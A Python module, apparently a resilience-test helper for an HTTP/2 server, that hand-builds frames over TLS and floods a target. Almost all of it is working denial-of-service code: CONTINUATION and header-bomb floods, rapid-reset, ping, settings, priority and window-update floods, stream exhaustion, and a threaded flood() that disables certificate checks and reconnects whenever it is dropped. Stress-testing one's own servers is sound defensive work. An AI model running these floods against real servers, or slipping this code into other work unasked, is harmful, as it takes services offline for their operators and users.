"""Floods of HTTP/2 frames, made by hand over TLS: what a peer can send that costs it nothing."""

import os
import socket
import ssl
import struct
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from pathlib import Path
from typing import Final

from edgenode.net.addresses import split_host_port
from edgenode.trust.tls import ClientTls

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK: Final = 256
"""Frames in one write."""
STREAMS: Final = 4
PATIENCE_SECONDS: Final = 60.0
"""Longer than asked for, where nothing is taken yet."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _text(name: bytes, value: bytes, kind: int = 0x00) -> bytes:
    """A header that is written out, in the dynamic table if `kind` is 0x40."""
    return bytes((kind, len(name))) + name + _length(len(value)) + value


def _length(value: int) -> bytes:
    """An integer of HPACK with a prefix of seven bits."""
    if value < 127:
        return bytes((value,))
    rest, out = value - 127, bytearray((127,))
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes((*out, rest))


def _request(path: bytes) -> bytes:
    headers = (b":path", path), (b":authority", b"a"), (b"content-type", b"application/grpc"), (b"te", b"trailers")
    return b"\x83\x87" + b"".join(_text(*each) for each in headers)


def _continuations(path: bytes) -> Iterator[bytes]:
    yield frame(1, 0, 1, _request(path))
    block = frame(9, 0, 1, b"".join(_text(b"x-%08d" % each, b"y" * 200) for each in range(70)))
    while True:
        yield block


def _one_long_header(path: bytes) -> Iterator[bytes]:
    yield frame(1, 0, 1, _request(path) + b"\x00\x01x" + _length(1 << 30))
    block = frame(9, 0, 1, b"y" * 16_000)
    while True:
        yield block


def _header_bombs(path: bytes) -> Iterator[bytes]:
    """A large header, put into the table once and named thousands of times."""
    yield frame(1, 5, 1, _request(path) + _text(b"x", b"y" * 3_900, 0x40))
    for stream in count(3, 2):
        yield frame(1, 5, stream, _request(path) + b"\xbe" * 15_000)


def _rapid_resets(path: bytes) -> Iterator[bytes]:
    for stream in count(1, 2):
        yield frame(1, 4, stream, _request(path)) + frame(3, 0, stream, b"\0\0\0\x08")


def _open_streams(path: bytes) -> Iterator[bytes]:
    for stream in count(1, 2):
        yield frame(1, 4, stream, _request(path))


def _on_open_streams(path: bytes, block: bytes) -> Iterator[bytes]:
    for each in range(STREAMS):
        yield frame(1, 4, 2 * each + 1, _request(path))
    while True:
        yield block


def _again(block: bytes) -> Callable[[bytes], Iterator[bytes]]:
    def frames(_: bytes) -> Iterator[bytes]:
        while True:
            yield block

    return frames


def _over(block: bytes) -> Callable[[bytes], Iterator[bytes]]:
    return lambda path: _on_open_streams(path, block)


FLOODS: Final[dict[str, Callable[[bytes], Iterator[bytes]]]] = {
    "continuation": _continuations,
    "one long header": _one_long_header,
    "header bombs": _header_bombs,
    "ping": _again(frame(6, 0, 0, b"12345678") * 64),
    "settings": _again(frame(4, 0, 0, struct.pack(">HI", 4, 65_535)) * 64),
    "window-update": _over(frame(8, 0, 0, b"\0\0\0\x01") + frame(8, 0, 1, b"\0\0\0\x01")),
    "open-stream": _open_streams,
    "rapid-reset": _rapid_resets,
    "priority": _again(b"".join(frame(2, 0, 2 * each + 1, b"\0\0\0\0\x10") for each in range(64))),
    "empty data": _over(b"".join(frame(0, 0, 2 * each + 1) for each in range(STREAMS)) * 16),
    "tiny data": _over(b"".join(frame(0, 0, 2 * each + 1, b"\0") for each in range(STREAMS)) * 16),
    "unknown frames": _again(frame(99, 0, 0, b"x") * 64),
    "garbage": lambda _: iter(lambda: os.urandom(4_096), b""),
}


def client_context(tls: ClientTls | None, newest: ssl.TLSVersion = ssl.TLSVersion.TLSv1_3) -> ssl.SSLContext:
    """A client that believes every server, with the certificate of `tls` if given."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.maximum_version = newest
    context.set_alpn_protocols(["h2"])
    if tls is not None:
        with tempfile.TemporaryDirectory() as folder:
            both = Path(folder) / "both.pem"
            both.touch(0o600)
            both.write_bytes(tls.key + b"\n" + tls.certificate)
            context.load_cert_chain(both)
    return context


def flood(address: str, kind: str, path: str, seconds: float, connections: int, tls: ClientTls | None = None) -> int:
    """Sends frames of `kind` to HOST:PORT from so many connections at once, as fast as they are taken, reads no replies, and
    connects again wherever it is hung up on. Returns how many bytes were taken."""
    ends = time.monotonic() + seconds
    context = client_context(tls)
    taken = [0] * connections

    def attack(number: int) -> None:
        # Whoever flooded before may have all places for a moment.
        while time.monotonic() < (ends if any(taken) else ends + PATIENCE_SECONDS):
            with suppress(OSError):
                plain = socket.create_connection(split_host_port(address), timeout=5.0)
                with context.wrap_socket(plain, server_hostname="a") as one:
                    one.settimeout(1.0)
                    one.sendall(PREFACE + frame(4, 0, 0))
                    frames = FLOODS[kind](path.encode("ascii"))
                    while time.monotonic() < ends or not taken[number]:
                        data = bytearray()
                        while len(data) < 65_536:
                            data += next(frames)
                        with suppress(TimeoutError):  # and goes on where it does not read, which breaks TLS, and is so no worse
                            one.sendall(data)
                            taken[number] += len(data)

    threads = [threading.Thread(target=attack, args=(each,)) for each in range(connections)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return sum(taken)
